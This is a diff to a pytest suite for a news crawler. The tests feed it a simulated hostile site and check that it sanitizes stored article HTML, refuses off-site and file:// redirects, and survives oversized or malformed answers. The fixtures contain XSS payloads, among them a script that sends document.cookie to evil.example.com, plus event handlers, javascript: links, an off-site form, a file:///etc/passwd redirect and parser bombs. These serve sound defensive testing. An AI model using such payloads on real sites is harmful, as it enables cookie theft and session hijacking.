@@ -8,6 +8,8 @@ import csv
 import json
 import random
 import re
+import resource
+from html import escape as html_escape
 from pathlib import Path
 from typing import Callable
 
@@ -76,8 +78,58 @@ def _offsite_canonical(page: str, _: GenArticle) -> str:
                                   '<link rel="canonical" href="https://evil.example.com/x.html">', 1)
 
 
+def _no_share_link(page: str, article: GenArticle) -> str:
+    """The real `<>` the generator wrote when it had no link: kramdown shows it as text."""
+    return page.replace(f'<p><a href="{article.share_url}">{article.share_url}</a></p>', "<p>&lt;&gt;</p>")
+
+
+def _other_post_canonical(page: str, _: GenArticle) -> str:
+    # On the site, but another post's page: believing it would take that post's URL.
+    return page.replace("<head>", '<head><link rel="canonical" '
+                                  'href="https://finews.withounder.com/emnews/2022/05/26/202205262200000001.html">', 1)
+
+
+def _in_head(extra: str) -> Callable[[str, GenArticle], str]:
+    return lambda page, _: page.replace("<head>", f"<head>{extra}", 1)
+
+
+def _unclosed_comment(page: str, article: GenArticle) -> str:
+    return _in_content("<!-- ")(page, article)
+
+
+def _huge_text(page: str, article: GenArticle) -> str:
+    return _in_content(f"<p>{'长文' * 1_000_000}</p>")(page, article)
+
+
+def _many_paragraphs(page: str, article: GenArticle) -> str:
+    return _in_content("<p>段落</p>" * 50_000)(page, article)
+
+
+def _long_title(page: str, article: GenArticle) -> str:
+    return page.replace(f">{html_escape(article.title)}</h1>", f">{'长' * 10_000}</h1>", 1)
+
+
 # case -> what it does to the post page
 PAGE_CASES: dict[str, Callable[[str, GenArticle], str]] = {
+    "no_share_link": _no_share_link,
+    "other_post_canonical": _other_post_canonical,
+    "evil_base_href": _in_head('<base href="https://evil.example.com/">'),
+    "offsite_og_url": _in_head('<meta property="og:url" content="https://evil.example.com/x.html">'),
+    "script_in_content": _in_content("<script>document.location='https://evil.example.com/?'+document.cookie</script>"),
+    "handlers_in_content": _in_content('<p onclick="steal()" onmouseover="steal()">点我<img src="x" onerror="steal()"></p>'),
+    "javascript_link": _in_content('<p><a href="javascript:steal()">链接文字</a></p>'),
+    "iframe_in_content": _in_content('<iframe src="https://evil.example.com/"></iframe>'),
+    "style_in_content": _in_content("<style>p{display:none}</style>"),
+    "svg_onload": _in_content('<svg onload="steal()"><circle r="1"/></svg>'),
+    "data_uri_link": _in_content('<p><a href="data:text/html;base64,PHNjcmlwdD4=">数据</a></p>'),
+    "unclosed_comment": _unclosed_comment,
+    "unclosed_textarea": _in_content("<textarea>"),
+    "unclosed_form": _in_content('<form action="https://evil.example.com/">'),
+    "math_element": _in_content("<math><mi>x</mi></math>"),
+    "null_bytes": _in_content("<p>\x00\x01\x02</p>"),
+    "huge_text_node": _huge_text,
+    "many_paragraphs": _many_paragraphs,
+    "long_title": _long_title,
     "meta_refresh": _in_content('<meta http-equiv="refresh" content="0;url=https://finews.withounder.com/gone.html">'),
     "long_share_link": _long_share,
     "source_bomb": _in_content(f"<p>{SOURCE_BOMB}</p>"),
@@ -88,8 +140,35 @@ PAGE_CASES: dict[str, Callable[[str, GenArticle], str]] = {
     "nested_10000_deep": _deep,
     "other_back_link": _other_back_link,
 }
-SHARE_CASES = ("scripted_share", "share_year_9999")
-LOST_CASES = ("redirect_loop",)  # pages no crawler can read
+# case -> the share host's answer instead of the real one
+SHARE_ANSWERS: dict[str, Callable[[MirrorResponse], MirrorResponse]] = {
+    "share_json_depth_bomb": lambda _: MirrorResponse(200, b"[" * 200_000, "application/json"),
+    "share_html_error_page": lambda _: MirrorResponse.html("<html><body>系统繁忙</body></html>"),
+    "share_truncated_json": lambda a: MirrorResponse(200, a.body[: len(a.body) // 2], "application/json"),
+    "share_empty_body": lambda _: MirrorResponse(200, b"", "application/json"),
+    "share_empty_text": lambda a: MirrorResponse.json({**json.loads(a.body), "text": ""}),
+    "share_wrong_types": lambda a: MirrorResponse.json({**json.loads(a.body), "text": {"p": 1}, "medianame": [1]}),
+    "share_500": lambda _: MirrorResponse(500, b"oops"),
+    "share_404": lambda _: MirrorResponse(404, b"not found"),
+    "share_redirect_offsite": lambda _: MirrorResponse(302, b"", headers={"Location": "https://evil.example.com/x"}),
+    "share_garbage_showtime": lambda a: MirrorResponse.json({**json.loads(a.body), "showtime": "昨天 下午"}),
+    "share_gbk_no_charset": lambda a: MirrorResponse(200, a.body.decode("utf-8").encode("gbk", "replace"),
+                                                     "text/plain"),
+    "share_150000_nested": lambda a: MirrorResponse.json(
+        {**json.loads(a.body), "text": "<blockquote>" * 150_000 + "深层正文" + "</blockquote>" * 150_000}),
+}
+SHARE_CASES = ("scripted_share", "share_year_9999", *SHARE_ANSWERS)
+# case -> the post page's answer instead of the real one (pages no crawler can read)
+PAGE_ANSWERS: dict[str, Callable[[str], MirrorResponse]] = {
+    "post_not_html": lambda _: MirrorResponse(200, b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "image/png"),
+    "post_empty_200": lambda _: MirrorResponse(200, b""),
+    "post_500": lambda _: MirrorResponse(500, b"oops"),
+    "post_redirect_offsite": lambda _: MirrorResponse(301, b"", headers={"Location": "https://evil.example.com/x.html"}),
+    "post_redirect_file": lambda _: MirrorResponse(301, b"", headers={"Location": "file:///etc/passwd"}),
+}
+LOST_CASES = ("redirect_loop", *PAGE_ANSWERS)
+# Answered well after a pause or a 429: archived whole.
+SLOW_CASES = ("post_429_retry_after", "post_slow_answer")
 SCRIPTED_SHARE = ('<script>alert(1)</script><p onclick="steal()">正文<img src="x" onerror="alert(1)">'
                   '<a href="javascript:alert(1)">链接</a><iframe src="https://evil.example.com"></iframe></p>')
 
@@ -99,15 +178,25 @@ class HostileSite:
 
     def __init__(self, site: GeneratedSite) -> None:
         self.site = site
-        plain = [a for a in site.articles if not (a.planted or a.alias_of or a.share_case or a.gbk) and a.shape == "A"]
-        names = [*PAGE_CASES, *SHARE_CASES, *LOST_CASES]
+        plain = [a for a in site.articles if not (a.planted or a.alias_of or a.share_case or a.gbk) and a.shape in "AB"]
+        names = [*PAGE_CASES, *SHARE_CASES, *LOST_CASES, *SLOW_CASES]
         self.cases: dict[str, GenArticle] = dict(zip(names, random.Random(5).sample(plain, len(names)), strict=True))
         self._pages = {a.path: (PAGE_CASES[case], a) for case, a in self.cases.items() if case in PAGE_CASES}
+        self._answers = {a.path: PAGE_ANSWERS[case] for case, a in self.cases.items() if case in PAGE_ANSWERS}
+        self._shares = {a.share_id: SHARE_ANSWERS[case] for case, a in self.cases.items() if case in SHARE_ANSWERS}
+        self._throttled = {self.cases["post_429_retry_after"].path}
 
     def site_page(self, path: str) -> MirrorResponse:
         if path == self.cases["redirect_loop"].path:
             return MirrorResponse(301, b"", headers={"Location": f"https://finews.withounder.com{path}"})
+        if path in self._answers:
+            return self._answers[path](path)
+        if path in self._throttled:  # once: "come back in a second"
+            self._throttled.discard(path)
+            return MirrorResponse(429, b"slow down", headers={"Retry-After": "1"})
         answer = self.site.site_page(path)
+        if path == self.cases["post_slow_answer"].path:
+            answer.delay = 2.0
         if path not in self._pages:
             return answer
         change, article = self._pages[path]
@@ -115,6 +204,8 @@ class HostileSite:
 
     def share_answer(self, share_id: str) -> MirrorResponse:
         answer = self.site.share_answer(share_id)
+        if share_id in self._shares:
+            return self._shares[share_id](answer)
         if share_id == self.cases["scripted_share"].share_id:
             data = json.loads(answer.body)
             data["text"] = SCRIPTED_SHARE + data["text"]
@@ -128,7 +219,7 @@ class HostileSite:
 def hostile_crawl(tmp_path_factory: pytest.TempPathFactory):
     from newscrawl.mirror.proxy import MirrorProxy
 
-    site = GeneratedSite(articles=60, seed=21)
+    site = GeneratedSite(articles=150, seed=21)
     hostile = HostileSite(site)
     proxy = MirrorProxy(hostile)
     proxy.start_in_thread()
@@ -136,8 +227,12 @@ def hostile_crawl(tmp_path_factory: pytest.TempPathFactory):
     try:
         result = crawl_through_mirror(proxy.url, out)
         requested = [r.target for r in proxy.requests]
+        hosts = {r.host for r in proxy.requests}
     finally:
         proxy.stop()
+    # The largest child this test process waited for: the crawl, or smaller ones before it.
+    result.peak_rss_mib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
+    result.hosts = hosts
     reader = ArchiveReader.open(out / "newscrawl.db")
     rows = {r["id"]: reader.get(r["id"]) for r in reader.articles.rows}
     reader.close()
@@ -515,3 +610,140 @@ def test_what_a_closed_fallback_element_holds_is_no_article_text() -> None:
 
     html, text = clean_body("<p>前文<noscript>请开启JavaScript</noscript>后文</p><p>二<object>插件</object></p>", "")
     assert text == "前文后文\n二" and "JavaScript" not in html
+
+
+# --- the corpus, case by case: each asserts its counted outcome ------------------------------
+def _row(hostile_crawl, case: str) -> tuple[GenArticle, dict, dict]:
+    site, hostile, result, rows, _ = hostile_crawl
+    article = hostile.cases[case]
+    assert article.id in rows, f"{case}: the article was lost"
+    expected = next(e for e in site.expected() if e["id"] == article.id)
+    return article, rows[article.id], expected
+
+
+def test_the_corpus_has_40_cases_crawled_in_one_run(hostile_crawl) -> None:
+    site, hostile, result, rows, _ = hostile_crawl
+    assert len(hostile.cases) >= 40
+    assert result.report["finish_reason"] == "finished" and "Traceback" not in result.log
+    # Nothing was asked of another host than the site's and the share hosts'.
+    assert result.hosts <= {"finews.withounder.com", "finews.zning.xyz", "choicewzp1.eastmoney.com",
+                            *{h for h in result.hosts if h.endswith(".eastmoney.com")}}
+    assert result.peak_rss_mib < 600, result.peak_rss_mib
+
+
+ACTIVE = {  # case -> what must not be in the stored body HTML (nor its text)
+    "script_in_content": ("<script", "document.cookie"),
+    "handlers_in_content": ("onclick", "onmouseover", "onerror"),
+    "javascript_link": ("javascript:",),
+    "iframe_in_content": ("<iframe", "evil.example.com"),
+    "style_in_content": ("<style", "display:none"),
+    "svg_onload": ("<svg", "onload"),
+    "data_uri_link": ("data:",),
+    "unclosed_form": ("<form", "evil.example.com"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(ACTIVE))
+def test_content_a_browser_would_run_is_not_stored_and_the_text_is_kept(hostile_crawl, case: str) -> None:
+    article, row, expected = _row(hostile_crawl, case)
+    for bad in ACTIVE[case]:
+        assert bad not in row["body_html"] and bad not in row["body_text"], (case, bad)
+    assert expected["body_text"] in row["body_text"] and row["title"] == article.title
+    kept = {"handlers_in_content": "点我", "javascript_link": "链接文字", "data_uri_link": "数据"}
+    if case in kept:
+        assert kept[case] in row["body_text"]
+
+
+@pytest.mark.parametrize("case", ["unclosed_comment", "unclosed_textarea", "math_element", "null_bytes",
+                                  "evil_base_href", "offsite_og_url"])
+def test_markup_that_would_hide_or_move_the_text_does_not(hostile_crawl, case: str) -> None:
+    article, row, expected = _row(hostile_crawl, case)
+    assert row["body_text"].endswith(expected["body_text"]) and row["title"] == article.title
+    assert "\x00" not in row["body_text"] and row["url"] == expected["url"] and row["share_url"] == article.share_url
+
+
+def test_a_huge_text_node_and_50000_paragraphs_are_read_whole(hostile_crawl) -> None:
+    _, huge, _ = _row(hostile_crawl, "huge_text_node")
+    assert huge["body_text"].count("长文") == 1_000_000
+    _, many, expected = _row(hostile_crawl, "many_paragraphs")
+    assert many["body_text"].count("段落") == 50_000 and expected["body_text"] in many["body_text"]
+
+
+def test_a_title_of_10000_characters_is_kept(hostile_crawl) -> None:
+    _, row, _ = _row(hostile_crawl, "long_title")
+    assert row["title"] == "长" * 10_000
+
+
+def test_a_post_without_a_share_link_gets_its_time_from_its_neighbours(hostile_crawl) -> None:
+    article, row, _ = _row(hostile_crawl, "no_share_link")
+    assert row["share_url"] is None and row["site_published_at"] == article.shown.isoformat()
+    assert row["published_at"] == article.published.isoformat() and row["provenance"]["published_at"] == "inferred"
+
+
+def test_a_canonical_link_to_another_post_is_not_believed(hostile_crawl) -> None:
+    article, row, expected = _row(hostile_crawl, "other_post_canonical")
+    assert row["url"] == expected["url"]
+
+
+SHARE_OUTCOMES = {  # case -> newscrawl/share/<reason> it is counted as
+    "share_json_depth_bomb": "invalid_json",
+    "share_html_error_page": "html_error_page",
+    "share_truncated_json": "invalid_json",
+    "share_empty_body": "empty_answer",
+    "share_empty_text": "empty_text",
+    "share_wrong_types": "empty_text",
+    "share_500": "http_500",
+    "share_404": "http_404",
+    "share_redirect_offsite": "http_302",
+}
+
+
+@pytest.mark.parametrize("case", sorted(SHARE_OUTCOMES))
+def test_a_broken_share_answer_is_counted_and_the_post_kept(hostile_crawl, case: str) -> None:
+    site, hostile, result, rows, _ = hostile_crawl
+    article, row, expected = _row(hostile_crawl, case)
+    assert result.stats.get(f"newscrawl/share/{SHARE_OUTCOMES[case]}", 0) >= 1
+    assert row["source_body_text"] is None and row["title"] == article.title
+    assert row["body_text"] == expected["body_text"] or article.shape == "C"
+    # No share time: the page's, judged by the neighbours.
+    assert row["published_at"] == article.published.isoformat()
+    assert result.log.count(article.share_id) <= 3  # said once (and the request's own lines)
+
+
+def test_share_answers_that_are_odd_but_readable_are_read(hostile_crawl) -> None:
+    _, garbage, _ = _row(hostile_crawl, "share_garbage_showtime")
+    assert garbage["source_published_at"] is None and garbage["source_body_text"]
+    assert garbage["provenance"]["published_at"] == "inferred"
+    article, gbk, _ = _row(hostile_crawl, "share_gbk_no_charset")
+    assert gbk["source_title"] == article.title and gbk["source_body_text"]
+    _, nested, _ = _row(hostile_crawl, "share_150000_nested")
+    assert "深层正文" in nested["source_body_text"] and nested["source_body_html"].count("<blockquote>") <= 100
+
+
+PAGE_OUTCOMES = {  # case -> newscrawl/finews/<reason> it is counted as
+    "post_not_html": "page_dropped/no_layout",  # bytes no HTML parser finds a post in
+    "post_empty_200": "page_dropped/empty_page",
+    "post_500": "fetch_error/http_500",
+}
+
+
+@pytest.mark.parametrize("case", sorted(PAGE_OUTCOMES))
+def test_a_post_page_no_one_can_read_is_counted(hostile_crawl, case: str) -> None:
+    site, hostile, result, rows, requested = hostile_crawl
+    assert result.stats.get(f"newscrawl/finews/{PAGE_OUTCOMES[case]}", 0) >= 1, {
+        k: v for k, v in result.stats.items() if "finews/" in k}
+    assert hostile.cases[case].id not in rows or case == "post_500"  # the feed may have its copy
+
+
+def test_redirects_off_the_site_are_not_followed(hostile_crawl) -> None:
+    site, hostile, result, rows, requested = hostile_crawl
+    assert "evil.example.com" not in result.hosts
+    for case in ("post_redirect_offsite", "post_redirect_file"):
+        assert hostile.cases[case].id not in rows
+    assert result.stats.get("offsite/filtered", 0) >= 1 and "/etc/passwd" not in result.log.replace("file:///etc/passwd", "")
+
+
+def test_a_429_and_a_slow_page_are_waited_for(hostile_crawl) -> None:
+    for case in SLOW_CASES:
+        article, row, expected = _row(hostile_crawl, case)
+        assert row["body_text"] == expected["body_text"]
